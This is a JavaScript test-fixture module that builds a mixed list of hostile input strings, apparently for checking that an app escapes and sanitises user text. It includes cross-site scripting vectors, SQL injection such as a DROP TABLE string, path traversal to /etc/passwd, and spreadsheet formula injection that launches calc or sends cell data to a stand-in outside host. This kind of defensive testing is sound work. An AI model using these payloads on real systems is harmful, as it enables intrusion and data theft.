// Text that does harm where it is taken for anything but text. Markup and scripts in it call `canary`, and ask for things at
// outside.invalid. The page of the tests imports this module too, for not everything in it would survive the way there.

const OUTSIDE = 'https://outside.invalid';

/** `%` is the call of the canary. */
const MARKUP = [
  '<script>%</script>',
  `<script src=${OUTSIDE}/x.js></script>`,
  '<ScRiPt\n>%</sCrIpT\t>',
  '<img src=x onerror=%>',
  `<img src="${OUTSIDE}/pixel.png">`,
  '<img src=x:x onerror\t=\n%//',
  '<svg onload=%>',
  '<svg><script>%</script></svg>',
  '<svg><animate onbegin=% attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:%"><text y=20>x</text></a>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.%</script>"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=%&gt;">',
  '<iframe src="javascript:parent.%"></iframe>',
  '<iframe srcdoc="<script>parent.%</script>"></iframe>',
  `<object data="${OUTSIDE}/x.swf"></object>`,
  '<embed src="javascript:%">',
  '<details open ontoggle=%>',
  '<video><source onerror=%></video>',
  '<audio src=x onerror=%>',
  '<body onload=%>',
  '<input autofocus onfocus=%>',
  '<select autofocus onfocus=%><option>1</select>',
  '<textarea autofocus onfocus=%></textarea>',
  '<marquee onstart=%>x</marquee>',
  '<a href="javascript:%">click</a>',
  '<a href="java&#115;cript:%">click</a>',
  '<form action="javascript:%"><button>x</button></form>',
  '<button formaction="javascript:%">x</button>',
  `<link rel=stylesheet href=${OUTSIDE}/x.css>`,
  `<style>@import url(${OUTSIDE}/x.css);*{background:url(${OUTSIDE}/x.png)}</style>`,
  `<base href=${OUTSIDE}/>`,
  '<meta http-equiv=refresh content="0;url=javascript:%">',
  '<template><img src=x onerror=%></template>',
  '<noscript><p title="</noscript><img src=x onerror=%>">',
  '<xss id=x tabindex=1 onfocus=%></xss>',
  '<div style="animation:pulse 1s" onanimationstart=%></div>',
  `<contacts-restore-table src=${OUTSIDE}></contacts-restore-table>`,
  '<slot name=heading onslotchange=%></slot>',
  '&lt;img src=x onerror=%&gt;',
  '\\u003cimg src=x onerror=%\\u003e',
];
/** Ways out of where a text might stand. */
const EXITS = ['', '">', "'>", '</bdi></button>', '--><!-->', '</script></style></title>', ']]>'];

const EVENTS =
  'click focus blur mouseover mouseenter pointerdown pointerenter keydown input change toggle beforetoggle load error animationend transitionend scroll wheel copy auxclick'.split(
    ' ',
  );

const URLS = [
  'javascript:%',
  'JaVaScRiPt:%',
  ' javascript:%',
  '\tjavascript:%',
  'java\nscript:%',
  'java\tscript:%',
  '\u0001javascript:%',
  'javascript://outside.invalid/%0a%',
  'javascript:/*--></title></style></textarea></script>*/%',
  'jav&#x09;ascript:%',
  'javascript\u003a%',
  'vbscript:msgbox(1)',
  'data:text/html,<script>parent.%</script>',
  'data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==',
  'blob:https://outside.invalid/1',
  'file:///etc/passwd',
  'mailto:a@b.c?bcc=all@outside.invalid',
  'tel:*%2306%23',
  'sms:+1?body=x',
  'view-source:javascript:%',
  'feed:javascript:%',
  'a@b.c%0d%0aBcc:all@outside.invalid',
];

const BIDI = [
  'Ana \u202egpj.exe',
  '\u202eAnn',
  '\u202dAnn\u202c\u202e',
  '\u2066Ann',
  '\u2067Ann\u2066',
  '\u2068\u2068\u2068Ann',
  '\u2069\u2069\u2069Ann',
  '\u200fAnn\u200e',
  '\u061cAnn',
  'שלום Ann <b>',
  'مرحبا (Ann) 123',
  '\u202e\u202e\u202e\u202c',
];

const INVISIBLE = [
  '\u200b',
  '\u200b\u200c\u200d\u2060',
  '\ufeff',
  '\u00ad\u00ad',
  '\u180e',
  '\u2800',
  '\u3164\u115f\u1160\uffa0',
  '\u{e0061}\u{e0062}\u{e007f}',
  ' \t\n\u00a0\u2003\u3000',
  '\u034f',
  '\ufe0f',
  'A\u200bnn\u200ba',
  '\u2028\u2029',
];

const TEMPLATES = [
  '${%}',
  '{{%}}',
  '{{constructor.constructor("%")()}}',
  '#{%}',
  '<%= % %>',
  '[[%]]',
  '{% import os %}',
  '${7*7}{{7*7}}',
  '`${%}`',
  '<!--?lit$123456789$-->',
  'lit$123456789$',
  '<?lit$123456789$>',
  '{{lit-123456789}}',
  '\ue000\ue001\ue00f',
  '%s %d %o %c',
  '%00%0a%2e%2e%2f',
];

const SQL = [
  "' OR '1'='1",
  "'; DROP TABLE contacts; --",
  '" OR ""="',
  '1; SELECT pg_sleep(9)',
  "' UNION SELECT NULL,NULL--",
  "admin'/*",
  '%_%',
  "\\'; --",
  '{"$gt":""}',
  '*)(uid=*))(|(uid=*',
];

const FORMULAS = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  `=HYPERLINK("${OUTSIDE}?x="&A1,"x")`,
  `=IMPORTXML("${OUTSIDE}","//a")`,
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\u0000=1+1',
  '\uff1d1+1',
  '\uff0b1+1',
  '\uff0d1+1',
  '\uff20SUM(1)',
  '"=1+1',
  '","=1+1","',
  '"\r\n=1+1',
  ',=1+1',
  '-2+3+cmd|" /C calc"!A0',
];

const KEYS = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'toString',
  'valueOf',
  '__defineGetter__',
  'then',
  'length',
  '0',
  '-0',
  '1e999',
  'true',
  'null',
];

const ODD_IDS = [
  ' ',
  ' leading and trailing ',
  '../../etc/passwd',
  'a/b?c=d&e=f#g',
  '"]),*{}',
  "a'b",
  'a\\b',
  '[data-id]',
  '#id .class > *',
  'ÄÖÜ ß',
  'A\u030a',
  '\u00c5',
  '👩‍👩‍👧‍👦',
  '\ud800',
  'x\udfff',
  '\ud83d',
];

const LONG = [
  'A'.repeat(5_000),
  'long word '.repeat(500),
  '<b>'.repeat(2_000),
  `Z${'\u0301\u0489'.repeat(1_000)}`,
  '\u202e'.repeat(1_000) + 'x',
  '"'.repeat(3_000),
  '9'.repeat(400),
];

const CONTROLS = Array.from({ length: 0x20 }, (_, code) => `c${String.fromCharCode(code)}d${code}`).concat(
  [
    '\u007f',
    '\u0080',
    '\u0085',
    '\u009b31m',
    '\u001b[31mred',
    '\u0008\u0008\u0008x',
    '\ufffe',
    '\uffff',
    '\ufff9',
  ].map((text) => `c${text}d`),
);

const armed = (texts) => texts.map((text, index) => text.replaceAll('%', () => `canary(${index})`));

const GROUPS = {
  markup: EXITS.flatMap((exit) => armed(MARKUP).map((text) => exit + text)),
  handlers: EVENTS.flatMap((event) => [
    `x" on${event}="canary()" x="`,
    `x' on${event}='canary()' tabindex='1`,
  ]),
  urls: armed(URLS),
  bidi: BIDI,
  invisible: INVISIBLE,
  controls: CONTROLS,
  templates: armed(TEMPLATES),
  sql: SQL,
  formulas: FORMULAS,
  keys: KEYS,
  ids: ODD_IDS,
  long: LONG,
};

/** How many there are of each kind. */
export const sizes = Object.fromEntries(Object.entries(GROUPS).map(([name, texts]) => [name, texts.length]));

/** All of them, each once, the kinds mixed: every batch has some of each. */
export const payloads = [...new Set(Object.values(GROUPS).flat())]
  .map((text, index, { length }) => ({ text, at: (index * 7919) % length }))
  .sort((a, b) => a.at - b.at)
  .map(({ text }) => text);
